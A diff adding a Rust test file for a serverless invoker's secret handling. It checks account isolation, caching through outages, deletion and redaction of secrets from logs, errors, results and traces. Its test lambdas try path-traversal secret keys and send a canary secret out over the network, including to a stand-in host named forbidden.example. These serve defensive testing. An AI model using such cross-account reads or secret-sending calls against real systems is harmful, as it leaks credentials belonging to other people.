@@ -1,0 +1,220 @@
+//! The secrets that lambdas read, and where they must not be seen.
+
+use std::{
+    io,
+    sync::{Arc, Mutex},
+    time::Duration,
+};
+
+use chatfn_domain::settings::FunctionSettings;
+use chatfn_proto::invoker::v1::FailureKind;
+use serde_json::json;
+use tokio::time::{Instant, timeout};
+use tonic::Request;
+use tracing_subscriber::fmt::MakeWriter;
+
+use crate::{
+    FUNCTION, PATIENCE,
+    service::{LOCAL, Service, failure, logged, of, request, result, version, with_settings},
+    vault::Vault,
+    witness::{Answer, Witness},
+};
+
+const NO_HOSTS: [&str; 0] = [];
+const TOKEN: &str = "accounts/acme/secrets/token";
+const OTHERS: &str = "accounts/other/functions/chat.start";
+
+/// Returns the length of the secret `token`, which is no secret.
+const LENGTH: &str = "const { Toolbelt } = require('lp-faas-toolbelt');
+const client = Toolbelt.SecretClient();
+async function lambda(input, context) {
+  const useCache = context.eventId !== 'fresh';
+  return client.readSecret('token', { useCache }).then(({ value }) => value.length, (error) => error.code);
+}";
+
+#[tokio::test]
+async fn a_function_reads_the_secrets_of_its_account() {
+    let vault =
+        Vault::start(&[(TOKEN, "acme's token"), ("accounts/other/secrets/token", "the other's token")]).await;
+    let source = "const { Toolbelt } = require('lp-faas-toolbelt');
+        async function lambda() {
+          const found = [];
+          for (const key of ['token', 'missing', '../../other/secrets/token', 'other/secrets/token', '']) {
+            await Toolbelt.SecretClient().readSecret(key).then(({ value }) => found.push(value.length), ({ code }) => found.push(code));
+          }
+          return found;
+        }";
+    let live = [version(1, source, &NO_HOSTS), of(OTHERS, version(1, source, &NO_HOSTS))];
+    let service = Service::start(live, &[&vault.flag]).await;
+    let mut of_other = request("e-1");
+    of_other.function = OTHERS.into();
+    let reports = [service.invoke("e-1").await.unwrap(), service.call(Request::new(of_other)).await.unwrap()];
+    let [not_found, invalid] =
+        ["not-found", "invalid-format"].map(|it| format!("com.liveperson.faas.secret.{it}"));
+    for (report, length) in reports.iter().zip([12, 17]) {
+        assert_eq!(result(report), json!([length, not_found, invalid, invalid, invalid]));
+    }
+    let expected = ["acme", "other"]
+        .map(|account| ["token", "missing"].map(|key| format!("accounts/{account}/secrets/{key}")));
+    assert_eq!(vault.asked(), expected.concat(), "nothing else was even asked for");
+}
+
+#[tokio::test]
+async fn changes_are_seen_and_an_outage_is_not() {
+    let vault = Vault::start(&[(TOKEN, "four")]).await;
+    let service = Service::start([version(1, LENGTH, &NO_HOSTS)], &[&vault.flag]).await;
+    let read = async |event: &str| result(&service.invoke(event).await.unwrap());
+    assert_eq!(read("e").await, 4);
+    vault.set(TOKEN, "longer");
+    assert_eq!(read("fresh").await, 6, "a read without the cache sees the change at once");
+    vault.set(TOKEN, "longest");
+    let seen = async { while read("e").await != 7 {} };
+    timeout(PATIENCE, seen).await.expect("others see it soon");
+
+    vault.go_away();
+    let asked = vault.asked().len();
+    let begun = Instant::now();
+    while vault.asked().len() < asked + 3 {
+        assert_eq!(read("e").await, 7, "the last value serves on");
+        assert!(begun.elapsed() < PATIENCE, "the registry is asked again now and then");
+    }
+    assert_eq!(read("fresh").await, "com.liveperson.faas.secret.op-failed");
+}
+
+#[tokio::test]
+async fn a_deleted_secret_is_gone() {
+    let vault = Vault::start(&[(TOKEN, "four")]).await;
+    let service = Service::start([version(1, LENGTH, &NO_HOSTS)], &[&vault.flag]).await;
+    let read = async || result(&service.invoke("e").await.unwrap());
+    assert_eq!(read().await, 4);
+    vault.delete(TOKEN);
+    let gone = async { while read().await != "com.liveperson.faas.secret.not-found" {} };
+    timeout(PATIENCE, gone).await.expect("soon");
+    vault.go_away();
+    let away = async { while read().await != "com.liveperson.faas.secret.op-failed" {} };
+    timeout(PATIENCE, away).await.expect("it does not come back in an outage");
+}
+
+#[tokio::test]
+async fn a_registry_that_cannot_be_reached_is_a_typed_error() {
+    // A port where nobody listens.
+    let gone = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let flag = format!("--registry=http://{}", gone.local_addr().unwrap());
+    drop(gone);
+    let service = Service::start([version(1, LENGTH, &NO_HOSTS)], &[&flag]).await;
+    assert_eq!(result(&service.invoke("e").await.unwrap()), "com.liveperson.faas.secret.op-failed");
+}
+
+/// All that is traced, at the most talkative level.
+#[derive(Clone, Default)]
+struct Trace(Arc<Mutex<Vec<u8>>>);
+
+impl io::Write for Trace {
+    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
+        self.0.lock().unwrap().extend_from_slice(bytes);
+        Ok(bytes.len())
+    }
+
+    fn flush(&mut self) -> io::Result<()> {
+        Ok(())
+    }
+}
+
+impl<'a> MakeWriter<'a> for Trace {
+    type Writer = Self;
+
+    fn make_writer(&'a self) -> Self {
+        self.clone()
+    }
+}
+
+const CANARY: &str = "canary \"in\" the\\ mine/ä'";
+
+/// Does with a secret whatever an author may do by accident.
+const CARELESS: &str = r#"
+const { Toolbelt } = require('lp-faas-toolbelt');
+async function lambda(input, { eventId }) {
+  const { value } = await Toolbelt.SecretClient().readSecret('canary');
+  console.log(value, { value, nested: JSON.stringify({ value }) }, encodeURIComponent(value));
+  console.error(new Error(`no ${value}`));
+  const url = `http://HOST/${encodeURIComponent(value)}?q=${encodeURIComponent(value)}`;
+  await fetch(url, { method: 'POST', headers: { 'x-key': btoa(unescape(encodeURIComponent(value))) }, body: value });
+  await fetch(`http://forbidden.example/${value}`).catch((error) => console.log(error.message));
+  if (eventId === 'throws') {
+    const error = new TypeError(value, { cause: new Error(value) });
+    error.name = value;
+    throw error;
+  }
+  if (eventId === 'rejects') {
+    Promise.reject(new Error(value));
+    throw value;
+  }
+  if (eventId === 'hangs') await new Promise((resolve) => setTimeout(resolve, 1e8));
+  return { value, [value]: [JSON.stringify({ value })] };
+}"#;
+
+/// The value, or a part of it that would give it away.
+fn shows(text: &str) -> bool {
+    text.contains("canary ")
+        || text.contains("canary%20")
+        || text.contains("canary+")
+        || text.contains("the\\")
+}
+
+#[tokio::test]
+async fn a_secret_is_nowhere_but_where_the_lambda_sends_it() {
+    let trace = Trace::default();
+    // Other tests of this process, if any, trace to here as well.
+    let _ = tracing_subscriber::fmt()
+        .with_max_level(tracing::Level::TRACE)
+        .with_writer(trace.clone())
+        .with_ansi(false)
+        .try_init();
+    let vault = Vault::start(&[("accounts/acme/secrets/canary", CANARY)]).await;
+    let crm = Witness::start(|_| Answer::ok("")).await;
+    let host = crm.at("127.0.0.1");
+    let settings = FunctionSettings {
+        timeout: Duration::from_secs(5),
+        allowed_hosts: vec![host.parse().unwrap()],
+        ..FunctionSettings::default()
+    };
+    let live = with_settings(1, &CARELESS.replace("HOST", &host), settings);
+    let service = Service::start([live], &[LOCAL, &vault.flag]).await;
+    for event in ["returns", "throws", "rejects", "hangs"] {
+        let report = service.invoke(event).await.unwrap();
+        match event {
+            "returns" => {
+                let expected = json!({"value": "[secret:canary]", "[secret:canary]": [r#"{"value":"[secret:canary]"}"#]});
+                assert_eq!(result(&report), expected);
+            }
+            "hangs" => drop(failure(&report, FailureKind::Timeout)),
+            _ => drop(failure(&report, FailureKind::Thrown)),
+        }
+        assert!(logged(&report)[0].starts_with("[secret:canary] { value: "), "{:?}", logged(&report));
+        assert_eq!(report.outbound_calls.len(), 2);
+        for text in texts(&report) {
+            assert!(!shows(&text), "{event}: {text}");
+        }
+    }
+    assert_eq!(crm.seen().requests.len(), 4);
+    assert!(crm.seen().requests.iter().all(|request| request.body == CANARY), "there it has to be");
+    let traced = String::from_utf8(trace.0.lock().unwrap().clone()).unwrap();
+    assert!(traced.contains(FUNCTION), "something is traced");
+    if let Some(line) = traced.lines().find(|line| shows(line)) {
+        panic!("traced: {line}");
+    }
+}
+
+/// Every text of a report.
+fn texts(report: &chatfn_proto::invoker::v1::RunReport) -> Vec<String> {
+    use chatfn_proto::invoker::v1::run_report::Outcome;
+    let mut texts: Vec<_> = report.logs.iter().map(|entry| entry.message.clone()).collect();
+    for call in &report.outbound_calls {
+        texts.extend([call.url.clone(), call.error_message.clone()]);
+    }
+    match report.outcome.clone().unwrap() {
+        Outcome::ResultJson(json) => texts.push(json),
+        Outcome::Failure(failure) => texts.extend([failure.error_name, failure.message, failure.stack]),
+    }
+    texts
+}
